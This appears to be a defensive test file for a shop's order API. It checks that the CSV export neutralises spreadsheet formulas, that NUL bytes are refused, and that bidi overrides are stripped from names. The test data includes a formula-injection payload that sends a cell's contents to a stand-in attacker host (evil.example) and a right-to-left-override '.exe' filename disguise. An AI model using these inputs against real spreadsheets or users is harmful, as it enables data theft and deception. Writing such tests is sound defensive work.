/**
 * Input an attacker would try (issue 37): spreadsheet formulas in the order CSV, NUL bytes,
 * and bidi overrides that disguise a name.
 */
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { checkoutPayload, countOrders, createOrder, guestWithCart, insertCustomer, insertProduct, queryRows, type Customer } from '../modules/orders/test-fixtures';
import { testDatabases } from '../test-support/databases';
import { createTestShop, type TestShop } from '../test-support/test-shop';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const NUL_REFUSED = 'The request contains a NUL character, which no field may hold';

function multipart(fields: Record<string, string>): { payload: string; headers: Record<string, string> } {
  const boundary = '----hostile-input-test';
  const parts = Object.entries(fields).map(([name, value]) => `--${boundary}\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`);
  return { payload: `${parts.join('')}--${boundary}--\r\n`, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

describe.each(testDatabases())('hostile input on %s', (kind) => {
  let shop: TestShop;
  let admin: Customer;
  let productId: string;

  beforeAll(async () => {
    shop = await createTestShop(kind);
  });
  afterAll(() => shop.close());

  beforeEach(async () => {
    await shop.reset();
    admin = await insertCustomer(shop, 'owner@shop.test', 'admin');
    productId = (await insertProduct(shop.database.db, { title: 'Linen Shirt', price: 300, sizes: { m: 10 } })).id;
  });

  const place = async (overrides: object) => createOrder(shop, await guestWithCart(shop, productId, 'm', 1), checkoutPayload(overrides));
  const asAdmin = (method: 'GET' | 'PATCH' | 'PUT' | 'POST', url: string, payload?: object | string, headers: Record<string, string> = {}) =>
    shop.app.inject({ method, url, payload, headers: { ...admin.headers, ...headers } });

  it('writes no live formula into the order CSV, and keeps amounts as numbers', async () => {
    const placed = await place({ firstName: HYPERLINK, lastName: 'X', city: '+Cairo', address: '-12 Nile Street @home' });
    expect(placed.statusCode, placed.body).toBe(201);
    const id = placed.json().results._id as string;
    expect((await asAdmin('PATCH', `/api/admin/orders/${id}`, { note: '@SUM(1+1)' })).statusCode).toBe(200);

    const response = await asAdmin('GET', '/api/admin/orders/export.csv');
    expect(response.statusCode).toBe(200);
    const [row] = parse(response.rawPayload, { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(row).toMatchObject({
      'Customer name': `'${HYPERLINK} X`,
      City: "'+Cairo",
      Address: "'-12 Nile Street @home",
      Notes: "'@SUM(1+1)",
      Phone: '01012345678',
      'Order number': '#1001',
    });
    expect(row!['Cash to collect (LE)']).toBe('390');
  });

  it('refuses a NUL byte as bad input, in the language asked, and writes nothing', async () => {
    const search = await shop.app.inject({ method: 'GET', url: '/api/products?q=%00' });
    expect(search.statusCode).toBe(400);
    expect(search.json()).toEqual({ message: NUL_REFUSED });
    const arabic = await shop.app.inject({ method: 'GET', url: '/api/products?q=a%00', headers: { 'accept-language': 'ar' } });
    expect(arabic.statusCode).toBe(400);
    expect(arabic.json().message).toBe('يحتوي الطلب على محرف NUL، ولا يقبله أي حقل');

    const checkout = await place({ firstName: 'a\u0000b' });
    expect(checkout.statusCode).toBe(400);
    expect(checkout.json()).toEqual({ message: NUL_REFUSED });
    // A key too, anywhere in the body.
    expect((await place({ extra: { 'k\u0000': 1 } })).statusCode).toBe(400);
    expect(await countOrders(shop.database.db)).toBe(0);

    const placed = await place({});
    const id = placed.json().results._id as string;
    for (const url of ['/api/admin/orders?q=%00', '/api/admin/orders?city=x%00', `/api/admin/orders/${id}%00`]) {
      const answer = await asAdmin('GET', url);
      expect(answer.statusCode, url).toBe(400);
      expect(answer.json().message, url).toBe(NUL_REFUSED);
    }
    expect((await asAdmin('PATCH', `/api/admin/orders/${id}`, { note: 'call\u0000me' })).statusCode).toBe(400);
    expect((await asAdmin('PUT', '/api/admin/shop-settings', { shopName: 'Shop\u0000' })).statusCode).toBe(400);
    const form = multipart({ name: 'Shirts\u0000' });
    const category = await asAdmin('POST', '/api/admin/createCategory', form.payload, form.headers);
    expect(category.statusCode, category.body).toBe(400);
    expect(category.json().message).toBe(NUL_REFUSED);

    const notes = await queryRows(shop.database.db, sql`select notes from orders`);
    expect(notes).toEqual([{ notes: '' }]);
    expect(await queryRows(shop.database.db, sql`select id from categories where name like 'Shirts%'`)).toEqual([]);
    expect(await queryRows(shop.database.db, sql`select id from shop_settings where shop_name like 'Shop%'`)).toEqual([]);
  });

  it('stores a checkout name without the bidi override that would disguise it', async () => {
    const placed = await place({ firstName: 'Mona\u202Egpj.exe', city: '\u2067Cairo\u2069', address: 'شارع النيل \u200F12' });
    expect(placed.statusCode, placed.body).toBe(201);
    const [order] = await queryRows(shop.database.db, sql`select first_name, city, address from orders`);
    expect(order).toEqual({ first_name: 'Monagpj.exe', city: 'Cairo', address: 'شارع النيل \u200F12' });
  });
});
